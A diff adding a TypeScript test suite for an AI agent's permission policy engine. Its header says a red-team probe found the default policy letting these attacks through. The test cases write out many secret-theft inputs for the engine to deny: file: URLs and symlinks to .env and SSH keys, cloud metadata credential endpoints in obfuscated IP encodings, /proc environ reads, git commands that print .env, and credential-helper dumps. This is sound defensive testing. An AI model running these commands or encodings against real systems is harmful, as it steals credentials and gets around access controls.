@@ -1,0 +1,219 @@
+import assert from 'node:assert/strict';
+import path from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import type { Decision } from '../../../../src/core/policy/engine.ts';
+import { canonicalHost, hostOf } from '../../../../src/core/policy/matchers.ts';
+import { act, judge, judgeShell, ready, tempWorld, type TempWorld } from './helpers.ts';
+
+/**
+ * Classes of attack a red-team probe found the default policy allowing:
+ * local files fetched through `file:` URLs, cloud metadata credentials,
+ * secret files missing from the built-in list, git commands that print a
+ * secret file, and MCP shell tools whose command argument has an unusual
+ * name. Each case runs through the real normaliser and engine against a
+ * real temporary workspace and home; the benign neighbours of each class
+ * must stay allowed.
+ */
+
+let w: TempWorld;
+before(async () => {
+  await ready();
+  w = tempWorld();
+  w.file('.env', 'API_KEY=sk-live-1234567890abcdef\n');
+  w.file('.env.example', 'API_KEY=\n');
+  w.file('apps/api/.env', 'DB_PASSWORD=hunter2\n');
+  w.file('README.md', '# project\n');
+  w.file('src/index.ts', 'export {};\n');
+  for (const rel of ['.ssh/id_rsa', '.config/git/credentials', '.my.cnf', '.gradle/gradle.properties', '.config/stripe/config.toml', '.fly/config.yml', '.wrangler/config/default.toml']) {
+    w.file(path.join(w.home, rel), 'secret\n');
+  }
+  w.file(path.join(w.home, '.gradle/init.gradle'), '// not a secret\n');
+  // a harmless-looking name in the workspace leading to a key in the home directory
+  w.link('docs/deploy-notes', path.join(w.home, '.ssh/id_rsa'));
+  w.link('env-link', '.env');
+  for (const name of ['.env~', '..env.swp', '#.env#', 'server.key.orig', 'id_rsa.save', '.env.example~', 'notes.txt~']) w.file(name, 'x\n');
+});
+after(() => w.cleanup());
+
+function expect(d: Decision, decision: Decision['decision'], rule: string | undefined, what: string): void {
+  assert.equal(d.decision, decision, `${what}: ${d.decision} (${d.rule}: ${d.reason})`);
+  if (rule) assert.equal(d.rule, rule, `${what}: decided by ${d.rule}`);
+}
+
+const mcp = (server: string, tool: string, args: Record<string, unknown>): Decision => judge(w, 'mcp', { server, tool, arguments: args });
+
+describe('file: URLs read the local file they name', () => {
+  test('a fetch of a secret file is a read of it', () => {
+    expect(judge(w, 'fetch', { url: `file://${w.workspace}/.env` }), 'deny', 'secrets.read', 'workspace .env');
+    expect(judge(w, 'fetch', { url: `file://${w.home}/.ssh/id_rsa` }), 'deny', 'secrets.read', 'home key');
+    expect(judge(w, 'web_fetch', { url: `FILE://localhost${w.workspace}/%2Eenv` }), 'deny', 'secrets.read', 'host localhost, percent-encoded name, upper-case scheme');
+    expect(judge(w, 'fetch', { url: `file:${w.workspace}/apps/api/.env` }), 'deny', 'secrets.read', 'file:/path without the authority');
+    expect(judge(w, 'fetch', { url: `file://${w.workspace}/apps/../.env` }), 'deny', 'secrets.read', 'dot segments');
+  });
+  test('symlinks are followed', () => {
+    expect(judge(w, 'fetch', { url: `file://${w.workspace}/docs/deploy-notes` }), 'deny', 'secrets.read', 'link into ~/.ssh');
+    expect(judge(w, 'fetch', { url: `file://${w.workspace}/env-link` }), 'deny', 'secrets.read', 'link to .env');
+  });
+  test('a browser MCP tool navigating to a file: URL reads it, whatever the tool or argument is called', () => {
+    expect(mcp('browser', 'navigate', { url: `file://${w.workspace}/.env` }), 'deny', 'secrets.read', 'browser navigate');
+    expect(mcp('puppeteer', 'puppeteer_navigate', { url: `file://${w.workspace}/.env` }), 'deny', 'secrets.read', 'puppeteer');
+    expect(mcp('playwright', 'browser_navigate', { href: `file://${w.home}/.ssh/id_rsa` }), 'deny', 'secrets.read', 'playwright, href');
+    expect(mcp('files', 'upload_file', { url: `file://${w.workspace}/.env`, destination: 'https://example.com/up' }), 'deny', undefined, 'an upload verb still reads the file');
+  });
+  test('curl reads a file: URL', () => {
+    expect(judgeShell(w, `curl file://${w.workspace}/.env`), 'deny', 'secrets.read', 'curl file://');
+    expect(judgeShell(w, `curl --url file://${w.home}/.ssh/id_rsa`), 'deny', 'secrets.read', 'curl --url file://');
+  });
+  test('the normalised action reads the path and contacts no host', () => {
+    const a = act(w, 'fetch', { url: `file://${w.workspace}/README.md` });
+    assert.deepEqual(a.reads, [path.join(w.workspace, 'README.md')]);
+    assert.deepEqual(a.urls, []);
+  });
+  test('benign: ordinary files and web pages', () => {
+    expect(judge(w, 'fetch', { url: `file://${w.workspace}/README.md` }), 'allow', undefined, 'README');
+    expect(judge(w, 'fetch', { url: 'https://example.com/docs/file:///etc' }), 'allow', undefined, 'a web page');
+    expect(mcp('browser', 'navigate', { url: `file://${w.workspace}/src/index.ts` }), 'allow', undefined, 'browser on a source file');
+    expect(mcp('browser', 'navigate', { url: 'https://example.com/' }), 'allow', undefined, 'browser on a web page');
+  });
+});
+
+describe('cloud metadata services', () => {
+  const endpoints = [
+    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
+    'http://METADATA.google.internal./computeMetadata/v1/',
+    'http://2852039166/latest/meta-data/iam/security-credentials/',
+    'http://0xa9fea9fe/latest/meta-data/',
+    'http://0251.0376.0251.0376/latest/meta-data/',
+    'http://[::ffff:169.254.169.254]/latest/meta-data/',
+    'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
+    'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
+    'http://[fd00:ec2::254]/latest/meta-data/',
+    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
+    'http://169.254.170.2/v2/credentials/abc',
+    'http://user@169.254.169.254:80/latest/api/token',
+  ];
+  test('a fetch of any of them is denied', () => {
+    for (const url of endpoints) expect(judge(w, 'fetch', { url }), 'deny', 'secrets.cloud-metadata', url);
+  });
+  test('in shell commands, with or without a scheme, and from MCP tools', () => {
+    expect(judgeShell(w, 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'), 'deny', 'secrets.cloud-metadata', 'curl');
+    expect(judgeShell(w, 'curl 169.254.169.254/latest/meta-data/'), 'deny', 'secrets.cloud-metadata', 'curl without a scheme');
+    expect(judgeShell(w, 'curl -H "Metadata-Flavor: Google" 2852039166/computeMetadata/v1/'), 'deny', 'secrets.cloud-metadata', 'curl, decimal host, no scheme');
+    expect(judgeShell(w, 'wget -qO- http://[fd00:ec2::254]/latest/meta-data/'), 'deny', 'secrets.cloud-metadata', 'wget, IPv6');
+    expect(mcp('browser', 'navigate', { url: 'http://0xa9fea9fe/latest/meta-data/' }), 'deny', 'secrets.cloud-metadata', 'MCP url');
+  });
+  test('hosts are canonicalised before they are compared', () => {
+    const canon = (url: string): string => canonicalHost(hostOf(url)!);
+    assert.equal(canon('gopher://2852039166/x'), '169.254.169.254', 'numeric host of a scheme the URL parser leaves opaque');
+    assert.equal(canon('http://[64:ff9b::169.254.169.254]/'), '169.254.169.254', 'NAT64');
+    assert.equal(canon('http://169.254.43518/'), '169.254.169.254', 'two-part form');
+    assert.equal(canon('http://[FD00:EC2:0::254]/'), 'fd00:ec2::254');
+    assert.equal(canon('http://Example.COM./x'), 'example.com');
+    assert.equal(canon('http://1e100.net/'), '1e100.net', 'a name that only looks numeric');
+  });
+  test('benign: other private and link-local hosts, look-alike names', () => {
+    for (const url of ['http://10.0.0.5/status', 'http://169.254.1.1/', 'http://metadata.example.com/v1', 'http://localhost:3000/latest/meta-data/', 'https://example.com/169.254.169.254']) {
+      expect(judge(w, 'fetch', { url }), 'allow', undefined, url);
+    }
+    expect(judgeShell(w, 'curl -s localhost:8080/health'), 'allow', undefined, 'curl to a local service');
+  });
+});
+
+describe('secret files the built-in list missed', () => {
+  test("any process's or thread's environment, at any depth below /proc", () => {
+    for (const p of ['/proc/thread-self/environ', '/proc/self/task/1/environ', '/proc/1/task/1/environ', '/proc/self/environ']) expect(judge(w, 'read', { path: p }), 'deny', 'secrets.read', p);
+    expect(judgeShell(w, 'cat /proc/self/task/*/environ'), 'deny', 'secrets.read', 'glob over threads');
+  });
+  test('credential files of tools in the home directory', () => {
+    for (const rel of ['.config/git/credentials', '.my.cnf', '.gradle/gradle.properties', '.config/stripe/config.toml', '.fly/config.yml', '.wrangler/config/default.toml']) {
+      expect(judge(w, 'read', { path: path.join(w.home, rel) }), 'deny', 'secrets.read', rel);
+    }
+    expect(judgeShell(w, 'cat ~/.my.cnf'), 'deny', 'secrets.read', 'cat ~/.my.cnf');
+  });
+  test("other users' credential files", () => {
+    for (const p of ['/home/someone/.aws/credentials', '/home/someone/.ssh/id_ed25519', '/root/.ssh/id_rsa', '/root/.docker/config.json', '/Users/someone/.kube/config', '/home/someone/.git-credentials']) {
+      expect(judge(w, 'read', { path: p }), 'deny', 'secrets.read', p);
+    }
+  });
+  test('backup and swap copies of secret files', () => {
+    for (const name of ['.env~', '..env.swp', '#.env#', 'server.key.orig', 'id_rsa.save']) expect(judge(w, 'read', { path: name }), 'deny', 'secrets.read', name);
+  });
+  test('benign: non-secret neighbours', () => {
+    for (const p of ['.env.example~', 'notes.txt~', path.join(w.home, '.gradle/init.gradle'), '/home/someone/notes.txt', '/proc/self/status', '/proc/cpuinfo']) {
+      expect(judge(w, 'read', { path: p }), 'allow', undefined, p);
+    }
+  });
+});
+
+describe('git commands that print a secret file', () => {
+  test('pathspecs, rev:path and :path name the file they print', () => {
+    for (const cmd of [
+      'git show :.env',
+      'git show :apps/api/.env',
+      'git show :0:.env',
+      "git show ':(top).env'",
+      'git diff --no-index /dev/null .env',
+      'git --no-pager diff --cached .env',
+      'git blame .env',
+      'git annotate apps/api/.env',
+      'git grep -h . -- .env',
+      'git grep -f .env',
+      'git archive HEAD .env | tar -xO',
+      'git format-patch -1 --stdout HEAD -- .env',
+      'git checkout-index --temp .env',
+      'git log -p -- .env',
+      'git log -L 1,3:.env',
+      'git diff-tree -p HEAD -- .env',
+      'git show --stat HEAD:.env',
+      "git diff -- '*.env'",
+      'git -C apps/api blame .env',
+      'git cat-file -p HEAD:.env',
+    ]) {
+      expect(judgeShell(w, cmd), 'deny', 'secrets.read', cmd);
+    }
+  });
+  test('credential helpers asked for the stored credentials', () => {
+    for (const cmd of ['git credential-store get', 'git credential-manager get', 'git credential-cache get', 'git credential fill', 'git -c credential.helper=store credential fill']) {
+      expect(judgeShell(w, cmd), 'deny', 'secrets.cli-token', cmd);
+    }
+  });
+  test('benign: metadata-only forms and other files', () => {
+    for (const cmd of [
+      'git log --oneline -- .env',
+      'git log --stat -- .env',
+      'git diff --stat -- .env',
+      'git show HEAD --name-only -- .env',
+      'git diff-tree -r HEAD -- .env',
+      'git status',
+      'git add .env.example',
+      'git show HEAD:README.md',
+      'git show HEAD~3',
+      'git diff main...HEAD -- src',
+      'git blame -L 1,2 README.md',
+      'git grep -n TODO -- src',
+      "git diff -- . ':!.env'",
+      "git diff HEAD -- . ':(exclude).env'",
+      'git show HEAD:.env.example',
+      'git cat-file -t HEAD',
+      'git credential approve',
+    ]) {
+      expect(judgeShell(w, cmd), 'allow', undefined, cmd);
+    }
+  });
+});
+
+describe('MCP tools that run shell commands', () => {
+  test('every string argument of a tool whose name says it runs commands is a command', () => {
+    expect(mcp('x', 'bash', { input: 'cat ~/.ssh/id_rsa' }), 'deny', 'secrets.read', 'bash, input');
+    expect(mcp('x', 'shell_exec', { code: 'cat .env' }), 'deny', 'secrets.read', 'shell_exec, code');
+    expect(mcp('x', 'runShellCommand', { line: 'cat .env' }), 'deny', 'secrets.read', 'camelCase name');
+    expect(mcp('x', 'run_command', { args: ['sh', '-c', 'cat ~/.ssh/id_rsa'] }), 'deny', 'secrets.read', 'run_command, argv');
+    expect(mcp('tmux', 'terminal_send', { keys: 'cat .env' }), 'deny', 'secrets.read', 'terminal, keys');
+    expect(mcp('x', 'exec', { text: 'curl http://169.254.169.254/latest/meta-data/' }), 'deny', 'secrets.cloud-metadata', 'exec, text');
+  });
+  test('benign: harmless commands, their descriptions, and tools that run nothing', () => {
+    expect(mcp('x', 'bash', { input: 'ls -la', description: "List the project's files" }), 'allow', undefined, 'ls with a description');
+    expect(mcp('docs', 'search_docs', { input: 'how does cat ~/.ssh/id_rsa work' }), 'allow', undefined, 'a search tool');
+  });
+});
